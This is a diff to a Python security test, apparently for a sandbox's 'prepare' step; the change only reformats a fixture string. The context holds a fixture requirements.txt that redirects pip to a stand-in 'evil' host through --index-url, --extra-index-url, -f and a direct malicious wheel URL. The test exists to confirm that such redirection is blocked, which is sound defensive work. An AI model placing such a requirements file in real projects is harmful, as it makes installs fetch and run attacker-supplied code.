@@ -208,8 +208,7 @@ def test_a_repository_cannot_redirect_prepare_and_checks_cannot_write_the_env(
                 "requirements.txt": f"--index-url {evil}/simple\n"
                 f"--extra-index-url {evil}/more\n--trusted-host 127.0.0.1\n"
                 f"-f {evil}/wheels\nevil @ {evil}/evil-1.0-py3-none-any.whl\nsix\n",
-                "tests/test_six.py": "import six\n\n\ndef test_six():\n"
-                "    assert six.PY3\n",
+                "tests/test_six.py": "import six\n\n\ndef test_six():\n    assert six.PY3\n",
             },
         )
         prepared = _cli("sandbox", "prepare", "--repo", str(repo), "--yes")
